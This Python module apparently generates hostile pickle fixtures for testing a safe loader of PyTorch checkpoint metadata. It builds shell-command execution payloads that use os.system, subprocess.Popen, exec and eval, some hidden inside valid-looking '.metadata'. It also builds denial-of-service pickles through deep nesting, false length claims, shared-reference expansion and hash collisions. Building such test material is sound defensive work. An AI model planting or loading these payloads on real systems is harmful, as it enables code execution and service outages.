"""Pickles that nobody writes by accident: those that call something, and those that take much from little.

Hand-made opcode by opcode, so that everything that can call or import has its turn.
"""

from __future__ import annotations

import struct
from itertools import islice
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

MODULE = "torch.distributed.checkpoint.metadata"
FILESYSTEM = "torch.distributed.checkpoint.filesystem"
#: Python takes hashes of numbers modulo this.
PRIME = (1 << 61) - 1


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    """LONG1, or LONG4 for what is longer."""
    nbytes = value.bit_length() // 8 + 1
    data = value.to_bytes(nbytes, "little", signed=True)
    return (b"\x8a" + bytes([nbytes]) if nbytes < 256 else b"\x8b" + struct.pack("<I", nbytes)) + data


def put(place: int) -> bytes:
    return b"r" + struct.pack("<I", place)


def get(place: int) -> bytes:
    return b"j" + struct.pack("<I", place)


def name(module: str, what: str) -> bytes:
    return f"c{module}\n{what}\n".encode()


def instance(kind: bytes, **state: bytes) -> bytes:
    """An object of a class with these attributes, as a dataclass pickles."""
    return kind + b")\x81}(" + b"".join(text(key) + value for key, value in state.items()) + b"ub"


def size(*dims: int) -> bytes:
    return name("torch", "Size") + b"(" + b"".join(map(number, dims)) + b"t\x85R"


def tensor(shape: bytes, chunks: bytes) -> bytes:
    properties = name(MODULE, "TensorProperties") + b")\x81(" + name("torch", "int8") + b"NNNNtb"
    return instance(name(MODULE, "TensorStorageMetadata"), properties=properties, size=shape, chunks=chunks)


def chunk(offsets: bytes, sizes: bytes) -> bytes:
    return instance(name(MODULE, "ChunkStorageMetadata"), offsets=offsets, sizes=sizes)


def index(fqn: bytes, offset: bytes) -> bytes:
    return instance(name(MODULE, "MetadataIndex"), fqn=fqn, offset=offset, index=b"N")


def place(file: bytes, offset: bytes = b"K\x00", length: bytes = b"K\x00", **more: bytes) -> bytes:
    return instance(name(FILESYSTEM, "_StorageInfo"), relative_path=file, offset=offset, length=length, **more)


def mapping(*pairs: bytes) -> bytes:
    """Keys and values in turn."""
    return b"}(" + b"".join(pairs) + b"u"


def metadata(state: bytes = b"}", planner: bytes = b"N", storage: bytes = b"}", before: bytes = b"", meta: bytes = b"N") -> bytes:
    """A whole `.metadata`; `before` runs first and leaves nothing on the stack."""
    kind = name(MODULE, "Metadata")
    whole = instance(kind, state_dict_metadata=state, planner_data=planner, storage_data=storage, storage_meta=meta)
    return b"\x80\x02" + before + whole + b"."


def calling(command: str) -> dict[str, bytes]:
    """Each runs `command` in a shell if Python's own unpickler reads it."""
    told, line = text(command), command.encode()
    system, popen = name("os", "system"), name("subprocess", "Popen")
    called = system + told + b"\x85R"
    shell = b"(" + told + b"J\xff\xff\xff\xffNNNNN\x89\x88t"  # Popen(command, -1, …, close_fds=False, shell=True)
    hook = name("types", "SimpleNamespace") + b")R}" + b"%b" + system + b"sb"
    return {
        "REDUCE": b"\x80\x02" + called + b".",
        "REDUCE of a text opcode": b"cos\nsystem\n(S'" + line + b"'\ntR.",
        "REDUCE of posix": b"\x80\x02" + name("posix", "system") + told + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + told + b"\x85R.",
        "STACK_GLOBAL from the memo": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93" + told + b"\x85R.",
        "STACK_GLOBAL of a dotted name": b"\x80\x04\x8c\x08platform\x8c\x09os.system\x93" + told + b"\x85R.",
        "INST": b"(S'" + line + b"'\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nS'" + line + b"'\no.",
        "NEWOBJ": b"\x80\x02" + popen + shell + b"R.",
        "NEWOBJ_EX": b"\x80\x04" + name("functools", "partial") + system + told + b"\x86}\x92)R.",
        "exec": b"\x80\x02" + name("builtins", "exec") + text(f"import os; os.system({command!r})") + b"\x85R.",
        "eval": b"\x80\x02" + name("__builtin__", "eval") + text(f"__import__('os').system({command!r})") + b"\x85R.",
        "BUILD through __setstate__": b"\x80\x02" + hook % text("__setstate__") + told + b"b.",
        "APPENDS through append": b"\x80\x02" + hook % text("append") + b"(" + told + b"e.",
        "APPEND through append": b"\x80\x02" + hook % text("append") + told + b"a.",
        "ADDITEMS through add": b"\x80\x04" + hook % text("add") + b"(" + told + b"\x90.",
        "a dict's factory": b"\x80\x02"
        + name("operator", "getitem")
        + (name("collections", "defaultdict") + name("functools", "partial") + system + told + b"\x86R\x85R")
        + b"N\x86R.",
        "in a list": b"\x80\x02](" + called + b"e.",
        "under a key": b"\x80\x02}" + called + b"Ns.",
    }


def calling_in_metadata(command: str) -> dict[str, bytes]:
    """The same within what is a `.metadata` otherwise."""
    called = name("os", "system") + text(command) + b"\x85R"
    return {
        "in planner data": metadata(planner=called),
        "before metadata": metadata(before=called + b"0"),
        "as an fqn": metadata(state=mapping(called, b"N")),
        "as a file's name": metadata(storage=mapping(index(text("x"), b"N"), place(called))),
    }


def naming(target: str) -> dict[str, bytes]:
    """Made of names that checkpoints have, and would yet make the file `target` if anything were called."""
    path = name("pathlib", "PosixPath") + text(target) + b"\x85R"
    touch = name("builtins", "getattr") + path + text("touch") + b"\x86R)R"
    return {
        "a method of a path": b"\x80\x02" + touch + b".",
        "in planner data": metadata(planner=touch),
        "as a dict's factory": metadata(state=name("collections", "defaultdict") + touch + b"\x85R"),
    }


def nesting(depth: int) -> dict[str, bytes]:
    """Values inside values."""
    kind = name(MODULE, "StorageMeta") + put(0) + b"0"
    tuples = b")" + b"\x85" * depth
    lists = b"]" * depth + b"a" * (depth - 1)
    values = {
        "lists": lists,
        "tuples": tuples,
        "pairs": b")" + b")\x86" * depth,
        "dicts": (b"}" + text("k")) * depth + b"N" + b"s" * depth,
        "sets": b"(" * depth + b"\x91" * depth,
        "what would be called": kind + get(0) * depth + b")" + b"\x81\x85" * depth,
        "states": kind + (get(0) + b")\x81") * depth + b"b" * (depth - 1),
        "a key": b"}" + tuples + b"Ns",
        "a member of a set": b"\x8f(" + tuples + b"\x90",
        "a class's name": text("torch") + tuples + b"\x93",
        "a class's module": lists + text("Size") + b"\x93",
        "arguments of Size": name("torch", "Size") + tuples + b"\x85R",
    }
    whole = {f"{what}, alone": b"\x80\x04" + value + b"." for what, value in values.items()}
    whole |= {f"{what}, in planner data": metadata(planner=value) for what, value in values.items()}
    whole["marks"] = b"\x80\x02" + b"(" * depth + b"."
    whole["an fqn"] = metadata(state=mapping(tuples, b"N"))
    whole["a size"] = metadata(state=mapping(text("x"), tensor(tuples, b"]")))
    whole["chunks"] = metadata(state=mapping(text("x"), tensor(size(1), lists)))
    return whole


def claiming() -> dict[str, bytes]:
    """Lengths and memo numbers that nothing stands behind."""
    most32, most63, most64 = b"\xff" * 4, b"\xff" * 7 + b"\x7f", b"\xff" * 8
    return {
        "BINUNICODE": b"\x80\x02X" + most32 + b"x.",
        "BINUNICODE8": b"\x80\x04\x8d" + most63 + b"x.",
        "BINUNICODE8 past 64 bits": b"\x80\x04\x8d" + most64 + b"x.",
        "SHORT_BINUNICODE": b"\x80\x04\x8c\xff.",
        "BINBYTES": b"\x80\x04B" + most32 + b"x.",
        "BINBYTES8": b"\x80\x04\x8e" + most63 + b"x.",
        "BYTEARRAY8": b"\x80\x05\x96" + most63 + b"x.",
        "LONG1": b"\x80\x02\x8a\xff\x01.",
        "LONG4": b"\x80\x02\x8b\xff\xff\xff\x7f\x01.",
        "LONG4 below zero": b"\x80\x02\x8b" + most32 + b"\x01.",
        "FRAME": b"\x80\x04\x95" + most64 + b"N.",
        "LONG_BINPUT": b"\x80\x02N" + b"r" + most32 + b".",
        "LONG_BINGET": b"\x80\x02N" + b"j" + most32 + b".",
        "BINPUT with a gap": b"\x80\x02Nq\x07.",
        "EXT4": b"\x80\x02\x84\xff\xff\xff\x7f.",
    }


def idiomatic(chunks: int) -> tuple[bytes, bytes]:
    """A tensor as the C pickler writes it at protocol 4, remembered and off the stack again; and what fetches it."""
    names = [text(one) for one in ("properties", "size", "chunks", "offsets", "sizes")]
    classes = [name(MODULE, one) for one in ("TensorProperties", "ChunkStorageMetadata", "TensorStorageMetadata")]
    known = [*names, *classes, name("torch", "Size"), name("torch", "int8"), b"N"]
    properties, size_key, chunks_key, offsets, sizes, kind, chunk_kind, tensor_kind, size_kind, dtype, nothing = (
        b"h" + bytes([number]) for number in range(len(known))
    )
    opened, dims = b")\x81\x94}\x94(", size_kind + b"K\x01\x85\x94\x85\x94R\x94"
    one = chunk_kind + opened + offsets + dims + sizes + dims + b"ub"
    whole = tensor_kind + opened + properties + kind + b")\x81\x94(" + dtype + nothing + b"\x89" + nothing + b"\x89t\x94b"
    whole += size_key + dims + chunks_key + b"]\x94(" + one * chunks + b"eub"
    remembered = len(known) + 5 + 3 + chunks * (2 + 3 + 3)
    return b"".join(value + b"\x940" for value in known) + whole + b"\x940", get(remembered)


def laughing(levels: int, count: int) -> dict[str, bytes]:
    """What is small because it is shared, and would be large if anybody wrote it out."""
    doubled = b"]" + put(0) + b"0" + b"".join(b"](" + get(n) * 2 + b"e" + put(n + 1) + b"0" for n in range(levels))
    tuples = b")" + put(0) + b"0" + b"".join(get(n) * 2 + b"\x86" + put(n + 1) + b"0" for n in range(levels))
    many = b"(" + b"K\x01" * count + b"t"
    chunks = b"](" + chunk(size(0), size(1)) + put(0) + b"0" + get(0) * count + b"e" + put(1) + b"0"
    keys = [text(f"{n:x}") for n in range(count)]
    entry, fetch_entry = idiomatic(min(count, 1000))
    record = name(MODULE, "StorageMeta") + b")\x81" + put(1) + b"0"
    wide = mapping(*(key + b"N" for key in keys)) + put(0) + b"0"
    return {
        "lists": metadata(before=doubled, planner=get(levels)),
        "tuples": metadata(before=tuples, planner=get(levels)),
        "a class's name": b"\x80\x04" + doubled + text("torch") + get(levels) + b"\x93.",
        "a class's module": b"\x80\x04" + doubled + get(levels) + text("Size") + b"\x93.",
        "a key": metadata(before=tuples, planner=b"}" + get(levels) + b"Ns"),
        "an fqn": metadata(before=tuples, state=mapping(get(levels), b"N")),
        "a dtype": metadata(before=doubled, state=mapping(text("x"), tensor(get(levels), b"]"))),
        "a file": metadata(before=doubled, storage=mapping(index(text("x"), b"N"), place(get(levels)))),
        "descriptors": metadata(
            before=doubled, storage=mapping(index(text("x"), b"N"), place(text("f"), transform_descriptors=get(levels)))
        ),
        "chunks of many tensors": metadata(
            before=chunks,
            state=mapping(*(key + tensor(size(1), get(1)) for key in keys)),
        ),
        "an entry of many tensors": b"\x80\x04" + metadata(before=entry, state=mapping(*(key + fetch_entry for key in keys)))[2:],
        "a shape of many tensors": metadata(before=many + put(0) + b"0", state=mapping(*(key + tensor(get(0), b"]") for key in keys))),
        "descriptors of many items": metadata(
            before=b"](" + text("d") * count + b"e" + put(0) + b"0",
            storage=mapping(*(index(key, b"N") + place(text("f"), transform_descriptors=get(0)) for key in keys)),
        ),
        "state given again and again": metadata(before=wide + record, planner=get(1) + (get(0) + b"b") * count),
        "state of many objects": metadata(
            before=wide, planner=b"](" + (name(MODULE, "StorageMeta") + b")\x81" + get(0) + b"b" + get(0) + b"b") * count + b"e"
        ),
        "a class asked for by a long name": b"\x80\x04"
        + text("torch")
        + put(0)
        + text("float8" + "0" * count)
        + put(1)
        + b"00"
        + (get(0) + get(1) + b"\x930") * count
        + b"N.",
        "a dimension for each byte": metadata(
            state=mapping(text("x"), tensor(size(1), b"](" + chunk(size(0), b"(" + b"K\xff" * count + b"t") + b"e"))
        ),
    }


def colliding_pairs() -> Iterator[tuple[int, int]]:
    """Pairs of numbers below 2^61 whose tuples all have one hash: CPython's, which is xxHash's over the numbers themselves."""
    mask, first, second, start = (1 << 64) - 1, 11400714785074694791, 14029467366897019727, 2870177450012600261

    def mixed(state: int, lane: int) -> int:
        state = (state + lane * second) & mask
        return ((state << 31 | state >> 33) & mask) * first & mask

    wanted = mixed(start, 0)
    inverse = pow(second, -1, 1 << 64)
    for one in range(1 << 40):
        other = (wanted - mixed(start, one)) * inverse & mask
        if other < PRIME:
            yield one, other


def colliding(count: int) -> dict[str, bytes]:
    """Keys and members with one hash."""
    primes = [number(n * PRIME) for n in range(1, count)]
    floats = [b"G" + struct.pack(">d", 2.0 ** (61 * (n % 17)) * (1 + n // 17)) for n in range(count)]
    pairs = list(islice(colliding_pairs(), count // 10))
    sizes = [size(*pair) for pair in pairs]
    huge = b"\x8b" + struct.pack("<i", count) + b"\x01" * count + put(0) + b"0"
    wide = b"(" + b"K\x01" * count + b"t" + put(0) + b"0"
    return {
        "numbers as keys": metadata(planner=mapping(*(one + b"N" for one in primes))),
        "fractions as keys": metadata(planner=mapping(*(one + b"N" for one in floats))),
        "tuples as keys": metadata(planner=mapping(*(number(a) + number(b) + b"\x86N" for a, b in pairs))),
        "numbers in a set": metadata(planner=b"\x8f(" + b"".join(primes) + b"\x90"),
        "numbers in a frozenset": metadata(planner=b"(" + b"".join(primes) + b"\x91"),
        "a huge number as a key, again and again": metadata(before=huge, planner=mapping(*[get(0) + b"N"] * count)),
        "a wide tuple as a key, again and again": metadata(before=wide, planner=mapping(*[get(0) + b"N"] * count)),
        "offsets of chunks": metadata(state=mapping(text("x"), tensor(size(1), b"](" + b"".join(chunk(one, one) for one in sizes) + b"e"))),
        "offsets of items": metadata(storage=mapping(*(index(text("x"), one) + place(text("f")) for one in sizes))),
        "shapes": metadata(state=mapping(*(text(f"{n}") + tensor(one, b"]") for n, one in enumerate(sizes)))),
    }
